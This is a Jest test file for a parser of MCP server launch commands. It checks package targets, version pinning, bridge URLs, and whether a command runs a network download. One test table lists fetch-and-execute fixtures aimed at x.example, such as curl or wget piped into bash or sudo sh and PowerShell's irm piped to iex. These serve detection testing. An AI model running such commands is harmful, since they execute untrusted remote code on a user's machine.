import { describe, expect, it } from '@jest/globals'
import { launchOf } from './launch.ts'

const DIGEST = `mcp/fetch@sha256:${'a'.repeat(64)}`
const COMMIT = 'a'.repeat(40)

describe('what a command line starts', () => {
  it.each<[readonly string[], string, boolean | null]>([
    [['npx', '-y', 'left-pad-mcp'], 'npx left-pad-mcp', false],
    [['npx', '-y', 'left-pad-mcp@latest'], 'npx left-pad-mcp@latest', false],
    [['npx', '-y', 'left-pad-mcp@^1.2.0'], 'npx left-pad-mcp@^1.2.0', false],
    [['npx', '-y', 'left-pad-mcp@1.2.0'], 'npx left-pad-mcp@1.2.0', true],
    [['npx', '@scope/mcp@1.2.0-rc.1', '--port', '1'], 'npx @scope/mcp@1.2.0-rc.1', true],
    [['npx', '--package', '@scope/mcp', 'mcp-bin'], 'npx @scope/mcp', false],
    [['npx', '-p=@scope/mcp@1.0.0', '-c', 'mcp'], 'npx @scope/mcp@1.0.0', true],
    [['npx', `github:o/r#${COMMIT}`], `npx github:o/r#${COMMIT}`, true],
    [['npx', './local'], 'npx', null],
    [['/opt/node/bin/npx.cmd', 'left-pad-mcp'], 'npx left-pad-mcp', false],
    [['cmd', '/c', 'npx', '-y', 'left-pad-mcp'], 'npx left-pad-mcp', false],
    [['cmd.exe', '/C', 'npx -y left-pad-mcp'], 'npx left-pad-mcp', false],
    [['sh', '-c', 'npx -y left-pad-mcp --flag'], 'npx left-pad-mcp', false],
    [['bash', '-lc', 'FOO=1 exec npx left-pad-mcp'], 'npx left-pad-mcp', false],
    [['env', 'A=b', '-u', 'npx', 'left-pad-mcp'], 'npx left-pad-mcp', false],
    [['sudo', '-E', 'npx', 'left-pad-mcp'], 'npx left-pad-mcp', false],
    [['npx -y left-pad-mcp@2.0.0'], 'npx left-pad-mcp@2.0.0', true],
    [['npm', 'exec', '-y', 'left-pad-mcp'], 'npm exec left-pad-mcp', false],
    [['pnpm', 'dlx', 'left-pad-mcp'], 'pnpm dlx left-pad-mcp', false],
    [['bunx', 'left-pad-mcp@1.0.0'], 'bunx left-pad-mcp@1.0.0', true],
    [['uvx', 'mcp-server-git'], 'uvx mcp-server-git', false],
    [['uvx', 'mcp-server-git==1.0.1'], 'uvx mcp-server-git==1.0.1', true],
    [['uvx', '--from', 'git+https://u:pw@h.example/r', 'run'], 'uvx git+https://h.example/r', false],
    [
      ['uvx', '--from', `git+https://h.example/r@${COMMIT}`, 'run'],
      `uvx git+https://h.example/r@${COMMIT}`,
      true,
    ],
    [['uv', 'tool', 'run', 'mcp-server-git@1.0.1'], 'uv tool run mcp-server-git@1.0.1', true],
    [['uv', 'run', 'server.py'], 'uv', null],
    [['pipx', 'run', 'mcp-server-git'], 'pipx run mcp-server-git', false],
    [['docker', 'run', '-i', '--rm', '-e', 'A=b', 'mcp/fetch'], 'docker run mcp/fetch', false],
    [
      ['docker', 'run', '--name', 'x', '-v', '/a:/b', 'mcp/fetch:latest'],
      'docker run mcp/fetch:latest',
      false,
    ],
    [['docker', 'run', '--env=A', 'mcp/fetch:1.2'], 'docker run mcp/fetch:1.2', true],
    [['podman', 'run', DIGEST], 'podman run mcp/fetch@sha256', true],
    [['deno', 'run', '-A', 'npm:left-pad-mcp'], 'deno npm:left-pad-mcp', false],
    [['deno', 'run', 'https://h.example/x.ts?k=v'], 'deno https://h.example/x.ts', false],
    [['node', '--enable-source-maps', '/srv/app/server.js'], 'node server.js', null],
    [['python3', 'server.py'], 'python3 server.py', null],
    [['/opt/tool/bin/mcp-tool', '--stdio'], 'mcp-tool', null],
  ])('is told of %j', ([command = '', ...args], target, pinned) => {
    const launch = launchOf(command, args)
    expect([launch.target, launch.pinned]).toEqual([target, pinned])
  })

  it.each<readonly [string, readonly string[]]>([
    ['bash', ['-c', 'curl -fsSL https://x.example/i | bash']],
    ['sh', ['-c', 'wget -qO- https://x.example | sudo sh -s --']],
    ['bash', ['<(curl', 'https://x.example)']],
    ['bash', ['-c', 'eval "$(curl https://x.example)"']],
    ['powershell', ['-c', 'iex (irm https://x.example)']],
    ['powershell', ['-Command', 'irm https://x.example | iex']],
  ])('is something of the network: %s %j', (command, args) => {
    expect(launchOf(command, args).runsDownload).toBe(true)
  })

  it.each<readonly [string, readonly string[]]>([
    ['curl', ['https://x.example', '-o', 'file']],
    ['bash', ['server.sh']],
    ['npx', ['curl-mcp']],
  ])('is not: %s %j', (command, args) => {
    expect(launchOf(command, args).runsDownload).toBe(false)
  })

  it.each<readonly [readonly string[], string | null]>([
    [['writ', 'connect', '--connection', 'x'], 'writ'],
    [['/usr/local/bin/writ', 'connect'], '/usr/local/bin/writ'],
    [['node', '/opt/writ/bin/writ.mjs', 'connect'], '/opt/writ/bin/writ.mjs'],
    [['sh', '-c', 'exec writ connect --connection x'], 'writ'],
    [['writ', 'status'], null],
    [['npx', 'writ', 'connect'], null],
    [['rewrit', 'connect'], null],
  ])('says whether it claims to be writ connect: %j', ([command = '', ...args], writ) => {
    expect(launchOf(command, args).writ).toBe(writ)
  })

  it('is the server behind a bridge', () => {
    expect(launchOf('npx', ['-y', 'mcp-remote@0.1.2', 'https://h.example/sse']).bridgesTo).toBe(
      'https://h.example/sse',
    )
    expect(launchOf('npx', ['-y', 'other', 'https://h.example/sse']).bridgesTo).toBeNull()
  })
})
